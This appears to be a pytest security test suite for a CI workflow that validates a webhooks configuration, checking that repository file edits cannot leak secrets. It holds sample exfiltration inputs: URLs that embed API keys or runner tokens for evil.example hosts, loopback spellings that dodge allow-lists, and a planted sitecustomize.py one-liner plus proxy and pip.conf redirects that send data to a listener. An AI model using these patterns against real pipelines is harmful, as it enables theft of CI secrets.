"""Whoever may edit the repository's files, but not its workflows, gets none of its secrets."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest

from tests.answering import answering
from tests.ci.conftest import CANARIES, Repository
from tests.faulty_server.messages import Answer, Received, as_json

ANY = "0.0.0.0"  # noqa: S104 - asked, not bound to: it reaches this machine
# What a runner has besides, some of it in the environment of our step.
RUNNERS = {
    "GH_TOKEN": "C4naRy-gh",
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "C4naRy-oidc",
    "ACTIONS_ID_TOKEN_REQUEST_URL": "https://oidc.test/C4naRy-url",
    "RUNNER_TRACKING_ID": "C4naRy-tracking",
}


class Elsewhere:
    """A server of somebody else, who would like to have a secret; `seen` is what came."""

    def __init__(self) -> None:
        self.seen: list[Received] = []
        self.port = ""

    def __call__(self, request: Received) -> Answer:
        self.seen.append(request)
        return as_json(200, {"count": 0, "page_size": 100, "data": []})


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    server = Elsewhere()
    with answering(server) as url:
        server.port = url.rpartition(":")[2]
        yield server


def file(
    api_url: str, to_url: str = "https://hooks.example.com/", api_key: str = "${DEFACTO_API_KEY}"
) -> str:
    return json.dumps(
        {
            "version": 1,
            "environments": {"production": {"api_url": api_url, "api_key": api_key}},
            "webhooks": [{"name": "a", "to_url": to_url, "event_types": ["Loan.CLOSED"]}],
        }
    )


def nothing_left(repository: Repository, elsewhere: Elsewhere, text: str, code: str) -> None:
    """As a pull request and as a push; the fixture looks for secrets in all that was written."""
    repository.write(text)
    for ended in (repository.pull_request(), repository.merge(None), repository.schedule()):
        assert ended.failed
        assert code in ended.everything
        assert not [secret for secret in RUNNERS.values() if secret in ended.everything]
    assert elsewhere.seen == []
    assert repository.server.log == []
    assert repository.api.statuses.get("0" * 39 + "1", [{"state": "failure"}])[-1]["state"] == "failure"


@pytest.mark.parametrize(
    ("host", "code"),
    # Each reaches this machine, where the server listens, and none is written as this machine.
    [
        (ANY, "untrusted-host"),
        ("[::ffff:127.0.0.1]", "untrusted-host"),
        ("localhost.", "untrusted-host"),
        ("0x7f.1", "untrusted-host"),
        ("127.1", "invalid-url"),
    ],
)
def test_the_file_does_not_say_who_gets_the_key(
    repository: Repository, elsewhere: Elsewhere, host: str, code: str
) -> None:
    where = f"{host}:{elsewhere.port}"
    nothing_left(repository, elsewhere, file(f"https://{where}"), code)
    in_clear = code if code == "invalid-url" else "insecure-url"
    nothing_left(repository, elsewhere, file(f"http://{where}"), in_clear)


def test_the_workflow_does(repository: Repository, elsewhere: Elsewhere) -> None:
    repository.write(file(f"https://{ANY}:{elsewhere.port}"))
    assert repository.pull_request().failed == ["Validate"]
    variables = {**repository.runner.variables, "DEFACTO_WEBHOOKS_TRUSTED_HOSTS": ANY}
    repository.runner.variables = variables
    assert repository.pull_request().failed == ["Plan production"]  # it does not speak TLS


@pytest.mark.parametrize(
    "where", ["https://${DEFACTO_API_KEY}.evil.example/", "https://e.example/?k=${DEFACTO_API_KEY}"]
)
def test_the_key_is_in_no_url(repository: Repository, elsewhere: Elsewhere, where: str) -> None:
    nothing_left(repository, elsewhere, file(repository.server.url, where), "key-in-url")
    nothing_left(repository, elsewhere, file(where), "key-in-url")


@pytest.mark.parametrize(
    "name", [*RUNNERS, "GITHUB_TOKEN", "INPUT_GITHUB_TOKEN", "INPUT_ENV_FILE", "GITHUB_SHA"]
)
def test_the_runner_s_names_are_nobody_s_variables(
    repository: Repository, elsewhere: Elsewhere, name: str
) -> None:
    repository.runner.variables = {**repository.runner.variables, **RUNNERS}
    url = f"https://hooks.example.com/?t=${{{name}}}"
    nothing_left(repository, elsewhere, file(repository.server.url, url), "reserved-variable")
    nothing_left(
        repository, elsewhere, file(repository.server.url, api_key=f"${{{name}}}"), "reserved-variable"
    )


def test_a_token_that_is_sent_elsewhere_is_shown_to_the_reviewers_and_hidden_in_itself(
    repository: Repository, elsewhere: Elsewhere
) -> None:
    """Nobody but the reviewers can tell whether that host should have it: a direct push could add as much."""
    repository.write(file(repository.server.url, "https://evil.example/x?t=${CALLBACK_TOKEN}"))
    assert not repository.pull_request().failed
    assert "evil.example/x?t=&#42;&#42;&#42;" in repository.comment
    assert elsewhere.seen == []


def test_files_of_the_checkout_are_data(repository: Repository, elsewhere: Elsewhere) -> None:
    """None of them is imported, and none is read but the one that is asked for."""
    workspace = repository.runner.workspace
    url = f"http://127.0.0.1:{elsewhere.port}/?"
    program = f"import os, urllib.request as u; u.urlopen({url!r} + os.environ['PATH'])"
    for name in (
        "sitecustomize.py",
        "usercustomize.py",
        "httpx.py",
        "defacto_webhooks.py",
        "venv.py",
        "pip.py",
    ):
        (workspace / name).write_text(program)
    (workspace / ".env").write_text(f"DEFACTO_API_KEY=x\nHTTPS_PROXY=http://127.0.0.1:{elsewhere.port}\n")
    (workspace / "pip.conf").write_text(f"[global]\nindex-url = http://127.0.0.1:{elsewhere.port}\n")
    repository.write(file(repository.server.url))
    assert not repository.pull_request().failed
    assert elsewhere.seen == []
    assert CANARIES["DEFACTO_API_KEY"] in str([request.authorization for request in repository.server.log])
